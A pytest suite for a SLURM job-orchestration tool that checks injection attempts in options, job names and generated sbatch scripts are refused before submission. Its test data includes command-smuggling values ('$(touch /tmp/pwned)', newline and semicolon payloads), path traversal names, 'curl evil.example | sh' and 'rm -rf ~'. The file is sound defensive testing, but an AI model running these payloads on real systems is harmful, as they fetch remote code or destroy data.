"""Hostile input that would reach SLURM is refused, naming the key, before anything is submitted.

SLURM options are strictly typed and their strings are single safe words (spec, flags, cluster
profile), trial/sweep/job names are safe path components, ``prepare_trial`` stays under
``<workdir>/trials``, and the sbatch script submitit writes is checked before ``sbatch`` sees it.
No cluster needed: ``srun`` and ``sbatch`` are stand-ins on PATH that record what they get.
"""

from __future__ import annotations

import json
import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from orchestration.backends.slurm import (
    SlurmBackend,
    SlurmInputError,
    SlurmOptions,
    check_sbatch_script,
    slurm_options,
)
from orchestration.cli import _slurm_options_from, build_parser
from orchestration.sweeps.spec import SpecError, load_spec
from orchestration.trial import TrialPaths, TrialSpec

REPO = Path(__file__).resolve().parents[1]
CLI = [sys.executable, "-m", "orchestration.cli"]

STRING_FIELDS = ("partition", "account", "qos", "constraint")
ATTACKS = {
    "newline": "gpu\ntouch /tmp/pwned #",
    "trailing-newline": "gpu\n",
    "hash": "gpu#x",
    "semicolon": "gpu;touch /tmp/pwned",
    "subshell": "$(touch /tmp/pwned)",
    "backticks": "`touch /tmp/pwned`",
    "space": "gpu debug",
    "carriage-return": "gpu\r",
}
BAD_NUMBERS = [
    ("time", "one hour"),
    ("time", 0),
    ("time", 1.5),
    ("cpus", -1),
    ("cpus", 0),
    ("gpus", 1.5),
    ("gpus", True),
    ("gpus", "2"),
    ("nodes", 0),
    ("mem", float("nan")),
    ("mem", float("inf")),
    ("mem", 0),
    ("signal_delay_s", -1),
    ("eval_time", 0),
    ("tasks_per_node", 0),
]


def _spec_text(slurm: dict, name: str = "t") -> str:
    return yaml.safe_dump(
        {
            "name": name,
            "axes": [{"key": "method.topk", "values": [1, 2]}],
            "default_profile": "demo",
            "profiles": {"demo": {"preset": "demo"}},
            "backend": {"name": "slurm", "slurm": slurm},
        }
    )


def _run(*args: str, timeout: int = 180) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*CLI, *args], capture_output=True, text=True, timeout=timeout, cwd=REPO)


@pytest.fixture
def fake_slurm(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """``srun`` and ``sbatch`` stand-ins on PATH; sbatch copies each script it gets to the returned
    directory (0.sh, 1.sh, ...) and answers like the real one."""
    bin_dir, captured = tmp_path / "bin", tmp_path / "submitted"
    bin_dir.mkdir()
    captured.mkdir()
    (bin_dir / "srun").write_text("#!/bin/sh\nexit 0\n")
    (bin_dir / "sbatch").write_text(
        f'#!/bin/sh\nn=$(ls "{captured}" | wc -l)\ncp "$1" "{captured}/$n.sh"\necho "Submitted batch job 4242"\n'
    )
    for f in bin_dir.iterdir():
        f.chmod(f.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    return captured


def _trial(tmp_path: Path, name: str = "t-1", sweep: str | None = None) -> TrialSpec:
    d = tmp_path / "work" / "trials" / name
    d.mkdir(parents=True)
    spec = TrialSpec(name, str(d), {"seed": 0}, ["knn"], sweep=sweep, backend="slurm")
    spec.save()
    return spec


def _sbatch_options_before_first_command(text: str) -> dict[str, str]:
    """``#SBATCH --key=value`` lines up to the first command line (what sbatch reads)."""
    out: dict[str, str] = {}
    for line in text.splitlines()[1:]:
        if line.strip() and not line.startswith("#"):
            break
        if line.startswith("#SBATCH --"):
            key, _, value = line[len("#SBATCH --") :].partition("=")
            out[key] = value
    return out


# ----------------------------------------------------------------- strings: three sources


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
@pytest.mark.parametrize("field", STRING_FIELDS)
def test_spec_string_injection_is_refused_naming_the_key(tmp_path, field, attack):
    spec = tmp_path / "spec.yaml"
    spec.write_text(_spec_text({field: attack}))
    with pytest.raises(SpecError) as e:
        load_spec(spec)
    assert f"backend.slurm.{field}:" in str(e.value)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
@pytest.mark.parametrize("field", STRING_FIELDS)
def test_flag_string_injection_is_refused_naming_the_flag(field, attack):
    args = build_parser().parse_args(["sweep", "spec.yaml", f"--{field}", attack])
    with pytest.raises(SlurmInputError) as e:
        _slurm_options_from(args)
    assert str(e.value).startswith(f"--{field}:")


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
@pytest.mark.parametrize("field", STRING_FIELDS)
def test_cluster_profile_string_injection_is_refused_naming_the_key(tmp_path, field, attack):
    profile = tmp_path / "cluster.yaml"
    profile.write_text(yaml.safe_dump({field: attack}))
    args = build_parser().parse_args(["sweep", "spec.yaml", "--cluster-profile", str(profile)])
    with pytest.raises(SlurmInputError) as e:
        _slurm_options_from(args)
    assert f"--cluster-profile {profile}: {field}:" in str(e.value)


# ----------------------------------------------------------------- numbers


@pytest.mark.parametrize("field, value", BAD_NUMBERS, ids=[f"{f}={v!r}" for f, v in BAD_NUMBERS])
def test_bad_numbers_are_refused_naming_the_key(field, value):
    with pytest.raises(SlurmInputError) as e:
        slurm_options({field: value}, lambda k: f"backend.slurm.{k}")
    assert str(e.value).startswith(f"backend.slurm.{field}:")


@pytest.mark.parametrize("text", ['time: "one hour"', "time: 0", "cpus: -1", "gpus: 1.5"])
def test_bad_numbers_in_a_spec_are_refused(tmp_path, text):
    field = text.split(":")[0]
    spec = tmp_path / "spec.yaml"
    spec.write_text(_spec_text({}).replace("slurm: {}", "slurm: {" + text + "}"))
    with pytest.raises(SpecError) as e:
        load_spec(spec)
    assert f"backend.slurm.{field}:" in str(e.value)


def test_unknown_slurm_key_is_refused(tmp_path):
    spec = tmp_path / "spec.yaml"
    spec.write_text(_spec_text({"partitoin": "gpu"}))
    with pytest.raises(SpecError, match="partitoin"):
        load_spec(spec)


def test_good_values_are_accepted(tmp_path):
    good = {
        "partition": "gpu,debug",
        "account": "proj-42_a.b",
        "qos": "normal",
        "constraint": "[rack1*2&rack2*4]|(a100&nvlink)",
        "gpus": 4,
        "cpus": 8,
        "mem": 64,
        "time": 120,
        "nodes": 2,
        "tasks_per_node": 4,
        "signal_delay_s": 0,
        "eval_time": 30,
    }
    spec = tmp_path / "spec.yaml"
    spec.write_text(_spec_text(good))
    assert load_spec(spec).backend.slurm == good
    o = slurm_options(good)
    assert (o.partition, o.constraint, o.gpus, o.mem, o.time) == (
        "gpu,debug",
        good["constraint"],
        4,
        64.0,
        120,
    )
    args = build_parser().parse_args(
        ["sweep", "s.yaml", "--partition", "gpu", "--time", "30", "--mem", "0.5"]
    )
    assert _slurm_options_from(args) == {"partition": "gpu", "time": 30, "mem": 0.5}
    assert SlurmOptions() == SlurmOptions(**{})  # the defaults still construct


# ----------------------------------------------------------------- names


NAME_ATTACKS = ["../../x", "..", ".", "a/b", "x\ntouch /tmp/pwned", "x y", "x;id", "$(id)", "`id`", "x#", ""]


@pytest.mark.parametrize("name", NAME_ATTACKS)
def test_sweep_name_injection_is_refused(tmp_path, name):
    spec = tmp_path / "spec.yaml"
    spec.write_text(_spec_text({"partition": "gpu"}, name=name))
    with pytest.raises(SpecError) as e:
        load_spec(spec)
    assert ": name:" in str(e.value)


@pytest.mark.parametrize("name", [n for n in NAME_ATTACKS if n] + ["mugs-" + "x" * 200])
def test_job_name_injection_is_refused_before_an_executor_exists(tmp_path, fake_slurm, name):
    with pytest.raises(SlurmInputError, match="SLURM job name"):
        SlurmBackend()._executor(tmp_path / "snap", name, _trial(tmp_path).dir / "slurm" / "%j")
    assert list(fake_slurm.iterdir()) == []


def test_a_bad_sweep_name_in_trial_yaml_is_refused_at_submission(tmp_path, fake_slurm):
    from orchestration.sweeps.executors import SlurmExecutor

    spec = _trial(tmp_path, sweep="s\ntouch /tmp/pwned")
    with pytest.raises(SlurmInputError, match="sweep name"):
        SlurmExecutor({})._submit_array(SlurmBackend(), [spec], tmp_path / "snap", tmp_path / "logs")
    assert list(fake_slurm.iterdir()) == []


def test_new_trial_id_and_prepare_trial_refuse_an_escaping_name(tmp_path):
    from mugs.config import ConfigError, build_config
    from orchestration.submit import new_trial_id, prepare_trial

    cfg = build_config("demo", None, [])
    with pytest.raises(SlurmInputError, match="--name"):
        new_trial_id(cfg, "../../x")
    assert new_trial_id(cfg, "ok-name").startswith("ok-name-")
    wd = tmp_path / "a" / "w"
    for trial_id in ("../../x", "..", "a/b", "/abs"):
        with pytest.raises(ConfigError, match="not directly under"):
            prepare_trial(cfg, wd, f"sqlite:///{tmp_path}/never.db", trial_id, [], "local")
    assert list(tmp_path.iterdir()) == [], "nothing created, inside the workdir or next to it"


# ----------------------------------------------------------------- the generated sbatch script


def test_generated_script_has_time_and_signal_before_the_first_command(tmp_path, fake_slurm):
    o = slurm_options({"partition": "gpu", "constraint": "a100&nvlink", "time": 30, "eval_time": 7})
    backend = SlurmBackend(o)
    spec = _trial(tmp_path)
    pre = backend._executor(tmp_path / "snap", "mugs-t-1", spec.dir / "slurm" / "%j")
    opts = _sbatch_options_before_first_command(pre.sbatch_text())
    assert opts["time"] == "30" and opts["signal"] == "USR2@90" and opts["partition"] == "gpu"
    assert opts["constraint"] == "'a100&nvlink'" and opts["job-name"] == "mugs-t-1"
    ev = backend._executor(tmp_path / "snap", "mugs-t-1-knn", spec.dir / "slurm" / "%j", after="4242")
    opts = _sbatch_options_before_first_command(ev.sbatch_text(tasks=3))
    assert opts["time"] == "7" and opts["signal"] == "USR2@90"
    assert opts["dependency"] == "afterok:4242" and opts["array"] == "0-2%3"
    pre.check()  # the checker accepts what submitit writes for valid options
    ev.check(tasks=3)


def test_submitted_scripts_are_the_checked_ones(tmp_path, fake_slurm):
    """Through the stand-in sbatch: a single job and an array, each script as checked."""
    backend = SlurmBackend(slurm_options({"time": 12, "signal_delay_s": 30}))
    spec = _trial(tmp_path)
    ex = backend._executor(tmp_path / "snap", "mugs-t-1", spec.dir / "slurm" / "%j")
    assert ex.submit(len, []).job_id == "4242"
    with ex.batch():
        jobs = [ex.submit(len, []) for _ in range(2)]
    assert [j.job_id for j in jobs] == ["4242_0", "4242_1"]
    single, array = (fake_slurm / "0.sh").read_text(), (fake_slurm / "1.sh").read_text()
    assert single == ex.sbatch_text() and array == ex.sbatch_text(tasks=2)
    for text in (single, array):
        opts = _sbatch_options_before_first_command(text)
        assert opts["time"] == "12" and opts["signal"] == "USR2@30"
    assert "array" in _sbatch_options_before_first_command(array)


def test_train_chain_is_checked_and_submitted(tmp_path, fake_slurm, monkeypatch):
    import orchestration.backends.slurm as slurm

    monkeypatch.setattr(slurm, "snapshot_code", lambda root: root / "snap")
    spec = _trial(tmp_path)
    jobs = SlurmBackend(slurm_options({"time": 25, "signal_delay_s": 60})).submit(spec)
    assert [(j["kind"], j["job_id"]) for j in jobs] == [("pretrain", "4242"), ("eval", "4242")]
    pre, ev = (_sbatch_options_before_first_command((fake_slurm / f"{i}.sh").read_text()) for i in (0, 1))
    assert (pre["job-name"], pre["time"], pre["signal"]) == ("mugs-t-1", "25", "USR2@60")
    assert (ev["job-name"], ev["dependency"], ev["signal"]) == ("mugs-t-1-knn", "afterok:4242", "USR2@60")


def test_sweep_arrays_are_checked_and_submitted(tmp_path, fake_slurm, monkeypatch):
    import orchestration.backends.slurm as slurm
    import orchestration.snapshot as snapshot
    from orchestration.sweeps.executors import SlurmExecutor

    monkeypatch.setattr(slurm, "max_array_size", lambda: 1001)
    monkeypatch.setattr(snapshot, "snapshot_code", lambda root: root / "snap")
    dirs = [_trial(tmp_path, f"s-{i}", sweep="s").dir for i in range(2)]
    SlurmExecutor({"time": 20, "eval_time": 5}).submit(dirs)
    pre, ev = (fake_slurm / "0.sh").read_text(), (fake_slurm / "1.sh").read_text()
    name = _sbatch_options_before_first_command(pre)["job-name"]
    assert re.fullmatch(r"mugs-sweep-s-[0-9a-f]{8}", name), name  # + the claim's unique token
    assert _sbatch_options_before_first_command(ev)["job-name"] == f"{name}-knn"
    claims = [json.loads(TrialPaths(d).jobs.read_text()) for d in dirs]
    assert [c[0]["job_id"] for c in claims] == ["4242_0", "4242_1"], "the claim resolved into job ids"
    assert _sbatch_options_before_first_command(ev)["time"] == "5"
    assert _sbatch_options_before_first_command(ev)["dependency"] == "aftercorr:4242"


def test_an_injected_value_that_bypassed_the_model_is_caught_by_the_script_check(tmp_path, fake_slurm):
    """The model refuses it; built without validation, the script check still stops sbatch."""
    o = SlurmOptions.model_construct(partition="gpu\ntouch /tmp/pwned #")
    ex = SlurmBackend(o)._executor(tmp_path / "snap", "mugs-t-1", _trial(tmp_path).dir / "slurm" / "%j")
    assert "\ntouch /tmp/pwned #" in ex.sbatch_text()  # what submitit would have written
    with pytest.raises(SlurmInputError, match="sbatch script"):
        ex.submit(len, [])
    with pytest.raises(SlurmInputError, match="sbatch script"), ex.batch():
        ex.submit(len, [])
        ex.submit(len, [])
    assert list(fake_slurm.iterdir()) == [], "sbatch never ran"


@pytest.fixture
def good_script(tmp_path: Path, fake_slurm: Path) -> tuple[str, dict[str, str], list[str]]:
    ex = SlurmBackend(slurm_options({"partition": "gpu"}))._executor(tmp_path, "mugs-t-1", _trial(tmp_path).dir / "slurm" / "%j")
    return ex.sbatch_text(), ex.expect, ex._executor.parameters["setup"]


def _insert_after(text: str, prefix: str, line: str) -> str:
    lines = text.split("\n")
    i = next(n for n, x in enumerate(lines) if x.startswith(prefix))
    return "\n".join([*lines[: i + 1], line, *lines[i + 1 :]])


HAND_MADE = {
    "command-among-options": (
        lambda t: _insert_after(t, "#SBATCH --partition", "touch /tmp/pwned"),
        "after the first command",
    ),
    "no-time": (
        lambda t: "\n".join(x for x in t.split("\n") if not x.startswith("#SBATCH --time")),
        "--time",
    ),
    "no-signal": (
        lambda t: "\n".join(x for x in t.split("\n") if not x.startswith("#SBATCH --signal")),
        "--signal",
    ),
    "other-time": (lambda t: t.replace("#SBATCH --time=60", "#SBATCH --time=6000"), "--time"),
    "option-with-space": (
        lambda t: t.replace("--partition=gpu", "--partition=gpu touch"),
        "not a plain #SBATCH",
    ),
    "command-after-srun": (
        lambda t: t.rstrip("\n") + "\ncurl evil.example | sh\n",
        "not a line this project",
    ),
    "extra-setup": (lambda t: _insert_after(t, "# setup", "rm -rf ~"), "not a line this project"),
    "srun-chained": (lambda t: t.replace("submitit.core._submit ", "submitit.core._submit ; id ; "), "srun"),
    "control-char": (lambda t: t.replace("#SBATCH --partition=gpu", "#SBATCH --partition=gpu\r"), "control"),
    "no-shebang": (lambda t: t.replace("#!/bin/bash", "#!/bin/sh", 1), "#!/bin/bash"),
    "twice": (lambda t: _insert_after(t, "#SBATCH --time", "#SBATCH --time=1"), "twice"),
}


@pytest.mark.parametrize("edit, words", HAND_MADE.values(), ids=HAND_MADE.keys())
def test_hand_made_scripts_are_refused(good_script, edit, words):
    text, expect, setup = good_script
    check_sbatch_script(text, expect, setup)  # the original passes
    bad = edit(text)
    assert bad != text
    with pytest.raises(SlurmInputError, match="sbatch script") as e:
        check_sbatch_script(bad, expect, setup)
    assert words in str(e.value)


# ----------------------------------------------------------------- the CLI: exit 2, nothing created


@pytest.mark.parametrize("name", ["../../x", "x\ntouch /tmp/pwned"])
def test_train_name_is_refused_with_exit_2_and_creates_nothing(tmp_path, name):
    wd = tmp_path / "a" / "w"
    r = _run("train", "--preset", "demo", "--name", name, "--workdir", str(wd))
    assert r.returncode == 2, r.stderr
    assert "--name" in r.stderr and "Traceback" not in r.stderr
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "flag, value",
    [("--partition", ATTACKS["newline"]), ("--constraint", ATTACKS["subshell"]), ("--mem", "nan")],
)
def test_train_slurm_flag_is_refused_with_exit_2_and_creates_nothing(tmp_path, flag, value):
    wd = tmp_path / "w"
    r = _run("train", "--preset", "demo", "--backend", "slurm", flag, value, "--workdir", str(wd))
    assert r.returncode == 2, r.stderr
    assert f"{flag}:" in r.stderr and "Traceback" not in r.stderr
    assert not wd.exists()


@pytest.mark.parametrize(
    "slurm, extra, words",
    [
        ({"partition": ATTACKS["newline"]}, (), "backend.slurm.partition"),
        ({"time": "one hour"}, (), "backend.slurm.time"),
        ({}, ("--account", "a;b"), "--account:"),
        ({}, ("--qos", "q`id`"), "--qos:"),
    ],
)
def test_sweep_refuses_bad_slurm_input_with_exit_2(tmp_path, slurm, extra, words):
    spec, wd = tmp_path / "spec.yaml", tmp_path / "w"
    spec.write_text(_spec_text(slurm))
    r = _run("sweep", str(spec), "--workdir", str(wd), "--dry-run", *extra)
    assert r.returncode == 2, r.stderr
    assert words in r.stderr and "Traceback" not in r.stderr
    assert not wd.exists()


def test_sweep_refuses_a_nan_mem_and_a_bad_profile_with_exit_2(tmp_path):
    spec, wd, profile = tmp_path / "spec.yaml", tmp_path / "w", tmp_path / "cluster.yaml"
    spec.write_text(_spec_text({}).replace("slurm: {}", "slurm: {mem: .nan}"))
    r = _run("sweep", str(spec), "--workdir", str(wd), "--dry-run")
    assert r.returncode == 2 and "Traceback" not in r.stderr, r.stderr
    assert "backend.slurm.mem" in r.stderr or "'.nan' is not a finite number" in r.stderr
    spec.write_text(_spec_text({}))
    profile.write_text("constraint: 'a100 && touch /tmp/pwned'\n")
    r = _run("sweep", str(spec), "--workdir", str(wd), "--dry-run", "--cluster-profile", str(profile))
    assert r.returncode == 2, r.stderr
    assert f"--cluster-profile {profile}: constraint:" in r.stderr
    assert not wd.exists()


def test_sweep_name_injection_exits_2(tmp_path):
    spec = tmp_path / "spec.yaml"
    spec.write_text(_spec_text({}, name="t\ntouch /tmp/pwned"))
    r = _run("sweep", str(spec), "--workdir", str(tmp_path / "w"), "--dry-run")
    assert r.returncode == 2 and ": name:" in r.stderr and "Traceback" not in r.stderr, r.stderr


def test_sweep_dry_run_with_good_slurm_options(tmp_path):
    spec = tmp_path / "spec.yaml"
    spec.write_text(_spec_text({"partition": "gpu", "constraint": "a100|h100"}))
    r = _run("sweep", str(spec), "--workdir", str(tmp_path / "w"), "--dry-run", "--time", "30")
    assert r.returncode == 0, r.stderr
    assert "--time=30" in r.stdout and "--partition=gpu" in r.stdout
